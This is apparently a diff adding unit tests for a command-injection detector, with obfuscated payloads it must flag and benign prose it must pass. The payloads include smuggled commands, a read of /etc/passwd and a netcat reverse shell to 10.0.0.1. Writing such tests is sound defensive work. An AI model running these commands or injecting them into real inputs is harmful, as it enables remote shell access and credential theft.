@@ -67,3 +67,23 @@ describe('detectCmdi: tricky benign values', () => {
     expect(detectCmdi(value)).toBeUndefined();
   });
 });
+
+describe('detectCmdi: the word pre-scan keeps every disguise', () => {
+  it.each([
+    "x;w'h'o'am'i",
+    'x;wh""oami',
+    'x;c\\at /etc/passwd',
+    'x|$(id)',
+    'x;`id`',
+    'a>()b',
+    "x';.shell id",
+    'x && /usr/bin/id',
+    "x' ; nohup nc -e /bin/sh 10.0.0.1 4444",
+    "name=x';ping -c 3 127.0.0.1",
+  ])('%j', (value) => {
+    expect(detectCmdi(value)).toBeDefined();
+  });
+  it.each(['Gift wrap item 3, size 10" x 12" & ribbon', "Dana O'Reilly; it's fine", 'Leave with the concierge; ring twice if no answer.'])('skips prose %j', (value) => {
+    expect(detectCmdi(value)).toBeUndefined();
+  });
+});
